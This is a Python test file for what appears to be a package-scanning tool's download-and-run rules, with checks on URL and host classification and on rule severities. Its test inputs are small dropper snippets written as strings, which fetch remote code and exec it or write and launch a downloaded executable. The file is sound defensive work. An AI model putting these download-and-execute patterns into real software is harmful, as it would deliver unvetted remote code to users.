"""Helpers of the download-and-run rules (DOU4xx), and their behaviour on small sources."""

from __future__ import annotations

from pathlib import Path

from douane.analysis.download import executable_url, host_kind
from douane.analysis.engine import analyse
from douane.archive import Opened
from douane.domain import Artifact, ArtifactKind, Member, Severity


def scan(files: dict[str, str], kind: ArtifactKind = ArtifactKind.SDIST):
    members = tuple(Member(p, t.encode(), len(t.encode())) for p, t in files.items())
    opened = Opened(kind=kind, format="folder", members=members, issues=(), root="")
    return analyse(Artifact(path=Path("."), filename="t"), opened).findings


def test_executable_url_reads_the_path_not_the_query():
    assert executable_url("https://h.example.invalid/a/b.EXE?x=1") == "exe"
    assert executable_url("https://h.example.invalid/a.exe.html") is None
    assert executable_url("https://h.example.invalid/setup.py") is None


def test_host_kind_labels_raw_ips_and_file_shares():
    assert host_kind("http://8.8.4.4/x") == "raw IP address"
    assert host_kind("https://cdn.discordapp.com/attachments/1/2/a.exe") == "file-sharing host"
    assert host_kind("https://docs.example.invalid/a") is None


def test_helper_that_downloads_counts_for_its_caller():
    """Regression: a dropper split over `download()` and a caller must still be seen."""
    src = (
        "import os, urllib.request\n"
        "def fetch(u, p):\n"
        "    open(p, 'wb').write(urllib.request.urlopen(u).read())\n"
        "def main(p):\n"
        "    fetch('https://x.example.invalid/a', p)\n"
        "    os.startfile(p)\n"
    )
    hits = [f for f in scan({"pkg/m.py": src}) if f.rule == "DOU402"]
    assert [(f.line, "fetch()" in f.message) for f in hits] == [(6, True)]


def test_pip_install_is_graded_by_place_and_source():
    src = (
        "import subprocess, sys\n"
        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n"
        "def upgrade():\n"
        "    subprocess.run([sys.executable, '-m', 'pip', 'install', '-U', 'x'])\n"
        "    subprocess.run(['pip', 'install', 'git+https://g.example.invalid/r.git'])\n"
    )
    got = {f.line: f.severity for f in scan({"pkg/__init__.py": src}) if f.rule == "DOU403"}
    assert got == {2: Severity.MEDIUM, 4: Severity.LOW, 5: Severity.HIGH}


def test_fetched_json_passed_to_a_tool_is_not_exec_of_fetched_code():
    src = (
        "import requests, subprocess\n"
        "def up():\n"
        "    v = requests.get('https://api.example.invalid/v').json()['v']\n"
        "    subprocess.run(['git', 'checkout', v])\n"
    )
    assert not [f for f in scan({"pkg/m.py": src}) if f.rule == "DOU401"]


def test_running_another_program_after_a_download_is_not_download_and_run():
    """Regression: a function that caches weights and starts an unrelated server was HIGH."""
    src = (
        "import subprocess, requests\n"
        "def serve(url, cache, binary):\n"
        "    data = requests.get(url).content\n"
        "    open(cache, 'wb').write(data)\n"
        "    subprocess.Popen([binary])\n"
        "    subprocess.Popen([cache])\n"
    )
    assert [f.line for f in scan({"pkg/m.py": src}) if f.rule == "DOU402"] == [6]


def test_legacy_bootstrap_exec_is_medium():
    src = "from urllib.request import urlopen\nexec(urlopen('https://x.example.invalid/ez.py').read())\n"
    got = {f.severity for f in scan({"bootstrap.py": src}) if f.rule == "DOU401"}
    assert got == {Severity.MEDIUM}
    got = {f.severity for f in scan({"pkg/boot.py": src}) if f.rule == "DOU401"}
    assert got == {Severity.CRITICAL}


def test_command_naming_the_written_file_counts():
    """Regression: `start server.exe` after writing `C://x//server.exe` was missed."""
    src = (
        "import os, requests\n"
        "r = requests.get('https://x.example.invalid/server.exe')\n"
        "open('C://Kingston//server.exe', 'wb').write(r.content)\n"
        "os.system('start cmd.exe /c start C://Kingston//server.exe')\n"
    )
    assert [f.line for f in scan({"setup.py": src}) if f.rule == "DOU402"] == [4]
